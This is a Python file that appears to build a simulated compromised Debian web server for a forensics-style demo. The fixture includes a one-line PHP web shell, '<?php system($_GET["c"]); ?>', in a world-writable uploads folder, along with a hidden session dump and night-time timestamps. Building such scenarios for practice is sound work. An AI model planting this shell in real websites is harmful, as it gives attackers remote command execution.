"""Which system it is: release, name, zone, language, file systems, cloud."""

import struct

from guestshell.demo.story.accounts import ALICE_KEY
from guestshell.demo.story.moments import night
from guestshell.demo.story.part import Part


def time_zone(standard: bytes, offset: int, rule: bytes) -> bytes:
    """Give a time zone as its rule alone, RFC 8536: no moment of the past at which it changed."""
    name = standard + b"\0"
    head = struct.pack(">4s1s15x6I", b"TZif", b"2", 0, 0, 0, 0, 1, len(name))
    block = head + struct.pack(">iBB", offset, 0, 0) + name
    return 2 * block + b"\n" + rule + b"\n"


PART = Part(
    texts={
        "/etc/debian_version": "12.11\n",
        "/usr/lib/os-release": (
            'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\n'
            'VERSION_ID="12"\nVERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\n'
            'HOME_URL="https://www.debian.org/"\n'
        ),
        "/etc/hostname": "web01\n",
        "/etc/machine-id": "0f1e2d3c4b5a69788796a5b4c3d2e1f0\n",
        "/etc/fstab": (
            "# <file system> <mount point> <type> <options> <dump> <pass>\n"
            "UUID=5ca1ab1e-0000-4000-8000-00000000d15c / ext4 errors=remount-ro 0 1\n"
            "tmpfs /tmp tmpfs nosuid,nodev 0 0\n"
            "UUID=dead0000-0000-4000-8000-000000000bad /mnt/backup ext4 noauto,nofail 0 2\n"
        ),
        "/etc/timezone": "Europe/Berlin\n",
        "/etc/adjtime": "0.0 1773400000 0.0\n1773400000\nUTC\n",
        "/etc/issue": "Debian GNU/Linux 12 \\n \\l\n",
        "/etc/default/locale": "LANG=de_DE.UTF-8\n",
        "/etc/default/keyboard": "XKBLAYOUT=de\n",
        "/var/lib/cloud/data/instance-id": "i-0web01\n",
        "/var/lib/cloud/seed/nocloud/user-data": (
            "#cloud-config\nhostname: web01\nusers:\n- name: alice\n"
            "  sudo: ALL=(ALL) NOPASSWD:ALL\n"
            f"  ssh_authorized_keys: [{ALICE_KEY}]\n"
        ),
        "/var/www/html/index.html": "<!doctype html>\n<title>web01</title>\n<h1>It works</h1>\n",
        "/var/www/html/uploads/shell.php": '<?php system($_GET["c"]); ?>\n',
        "/etc/nginx/nginx.conf": "user www-data;\nworker_processes auto;\n",
    },
    data={
        "/usr/share/zoneinfo/Europe/Berlin": time_zone(b"CET", 3600, b"CET-1CEST,M3.5.0,M10.5.0/3"),
        "/var/cache/.dump.sql": b"INSERT INTO sessions VALUES ('alice', 'c0ffee');\n" * 65536,
    },
    links={
        "/etc/os-release": "../usr/lib/os-release",
        "/etc/localtime": "/usr/share/zoneinfo/Europe/Berlin",
    },
    modes={
        "/tmp": 0o1777,
        "/var/www/html/uploads": 0o777,
        "/var/www/html/uploads/shell.php": 0o666,
    },
    owners={
        "/var/www/html/index.html": (33, 33),
        "/var/www/html/uploads": (33, 33),
        "/var/www/html/uploads/shell.php": (33, 33),
    },
    times={
        "/var/www/html/uploads/shell.php": night("01:39:12"),
        "/var/cache/.dump.sql": night("02:31:40"),
    },
)
